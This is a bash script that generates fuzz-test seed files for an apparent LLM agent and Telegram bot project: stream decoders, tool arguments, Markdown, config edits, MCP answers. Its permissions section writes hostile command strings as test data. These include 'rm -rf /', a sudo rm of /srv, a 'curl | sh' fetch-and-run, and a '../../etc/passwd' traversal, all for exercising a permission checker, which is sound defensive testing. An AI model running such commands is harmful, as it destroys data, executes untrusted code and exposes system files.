#!/usr/bin/env bash
# Writes seed inputs for every fuzz target into OUT/TARGET/, from the
# recorded traffic in CORPUS (../shared/corpus, read in place) and the
# repository's own cassette: `fuzz/seeds.sh ../shared/corpus /tmp/seeds`.
# Each stream seed is the target's dialect byte, 8 cut steps, the body.
set -euo pipefail
corpus=$1
out=$2
here=$(cd "$(dirname "$0")" && pwd)
[ -d "$corpus/01_openai_chat_stream" ] || { echo "seeds.sh: no recorded traffic in $corpus" >&2; exit 1; }
mkdir -p "$out"/{stream_decoders,tool_arguments,slash_commands,split_message,telegram_markdown,recordings,config,panel_config_edit,permissions,mcp_server,telegram_updates}

# stream_decoders: the dialect byte is what the target's `which % 7` picks.
stream() { # DIALECT_BYTE CATEGORY FILE
	local dialect=$1 category=$2 file
	for file in "$corpus/$category"/*/"$3"; do
		[ -f "$file" ] || continue
		local name
		name=$(basename "$(dirname "$file")")
		{ printf "\\x$(printf %02x "$dialect")"; printf '\x07\x0d\x11\x03\x1f\x29\x05\x40'; cat "$file"; } >"$out/stream_decoders/$category-$name"
	done
}
stream 0 01_openai_chat_stream response.txt
stream 1 02_openai_chat_nonstream_tools response.json
stream 2 03_anthropic_messages_stream response.txt
stream 3 04_gemini_stream_sse response.txt
stream 4 05_ollama_chat_ndjson response.txt
stream 5 06_openai_responses_stream response.txt

# tool_arguments: the arguments models really wrote, and the target's own shapes.
n=0
for expected in "$corpus"/0[1-6]*/*/expected.json; do
	jq -c '.tool_calls // [] | .[] | .arguments' "$expected" 2>/dev/null | while read -r arguments; do
		printf '%s' "$arguments" >"$out/tool_arguments/corpus-$(basename "$(dirname "$expected")")-$((n++))"
	done
done
printf '%s' '{"places":[{"city":"Zürich","latitude":47.4}],"unit":"celsius","days":3}' >"$out/tool_arguments/weather"
printf '%s' '"{\"places\":[],\"days\":1}"' >"$out/tool_arguments/double-encoded"
printf '%s' '{"places":[{"city":"Paris"}],"days":99,"extra":null}' >"$out/tool_arguments/out-of-range"

# slash_commands: the built-ins and a tool as a command.
i=0
for line in "/help" "/new" "/undo" "/stop" "/tasks" "/echo text=hi times=2" '/echo text="two words"' "/echo" "/unknown x=1" "hello /echo"; do
	printf '%s' "$line" >"$out/slash_commands/$((i++))"
done

# split_message: a limit byte, then what models answered.
for expected in "$corpus"/0[1-6]*/*/expected.json; do
	jq -r '.content // empty' "$expected" 2>/dev/null >"$out/split_message/body" || true
	if [ -s "$out/split_message/body" ]; then
		{ printf '\x05'; cat "$out/split_message/body"; } >"$out/split_message/$(basename "$(dirname "$expected")")"
	fi
	rm -f "$out/split_message/body"
done
{ printf '\x00'; printf 'Here:\n```rust\n'; for _ in $(seq 20); do printf 'let x = 1;\n'; done; printf '```\nDone. 🦀\n'; } >"$out/split_message/fenced"

# A fence whose language is 16 emoji at the shortest limit (a panic once).
{ printf '\x00```'; for _ in $(seq 16); do printf '🦀'; done; printf '\n'; for _ in $(seq 60); do printf 'x '; done; printf '\n```\n'; } >"$out/split_message/emoji-fence"

# telegram_markdown: what models answered, and Markdown's corners.
for expected in "$corpus"/0[1-6]*/*/expected.json; do
	jq -r '.content // empty' "$expected" 2>/dev/null >"$out/telegram_markdown/$(basename "$(dirname "$expected")")" || true
done
find "$out/telegram_markdown" -empty -delete
printf '%s' '# Title *bold* _it_ `code` [link](http://x.y/a_(b)) ~~s~~ > quote 1. one - two | a | b | 3.14! {x}' >"$out/telegram_markdown/corners"
printf '```rust\nlet x = "`\\";\n```\n' >"$out/telegram_markdown/fence"

# recordings: the committed cassette.
cp "$here/../examples/cassettes/weather.json" "$out/recordings/weather.json"

# config: every TOML block of the guides.
awk -v dir="$out/config" '/^```toml/ { inside = 1; n++; next } /^```/ { inside = 0 } inside { print > (dir "/docs-" n) }' "$here"/../docs/*.md

# panel_config_edit: a config from the guides, NUL, the panel's request body.
i=0
for body in '{"key":"agent.max_tool_rounds","value":5}' '{"key":"llm.model","value":"qwen3:8b"}' \
	'{"key":"telegram.allowed_user_ids","value":[111,222]}' '{"key":"llm.base_url","value":null}' \
	'{"key":"agent.system_prompt","value":"You are \"terse\".\n[llm]"}' '{"key":"nope.nothing","value":true}'; do
	{ cat "$out/config/docs-1"; printf '\0%s' "$body"; } >"$out/panel_config_edit/$((i++))"
done

# permissions: a script, then rules of (permission 0 allow / 1 ask / 2 deny,
# tool, command, path), every field ended by \x01.
i=0
for case in 'rm -rf /\x012\x01*\x01rm *\x01' 'echo hi; sudo -u root rm -rf /srv\x010\x01run_script\x01echo *\x01' \
	'$(curl -s x | sh) && ls\x010\x01*\x01ls *\x01' 'cd /tmp && tar xzf a.tgz\x011\x01remove\x01\x01/tmp/**' \
	"sh -c 'eval \"rm -f x\"' # c\x012\x01*\x01rm *\x01" '../../etc/passwd\x010\x01remove\x01\x01~/**'; do
	printf "$case" >"$out/permissions/$((i++))"
done

# mcp_server: an initialize answer, then a tools/list answer, a line each.
printf '%s\n%s' '{"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{"tools":{}},"serverInfo":{"name":"x","version":"1"}}}' \
	'{"jsonrpc":"2.0","id":1,"result":{"tools":[{"name":"echo","description":"Echo","inputSchema":{"type":"object","properties":{"text":{"type":"string"}},"required":["text"]}},{"name":"bad name!","inputSchema":{"type":"object","properties":{"n":{"anyOf":[{"type":"integer"},{"type":"null"}]}}}}]}}' \
	>"$out/mcp_server/tools"
printf '%s' '{"jsonrpc":"2.0","id":0,"error":{"code":-32600,"message":"no"}}' >"$out/mcp_server/refused"

# telegram_updates: the recorded updates, each as a webhook request's body.
for response in "$corpus"/07_telegram_updates/*/response.json; do
	name=$(basename "$(dirname "$response")")
	jq -c '(.result // [.])[]' "$response" | head -n 8 | split -l 1 - "$out/telegram_updates/$name-"
done
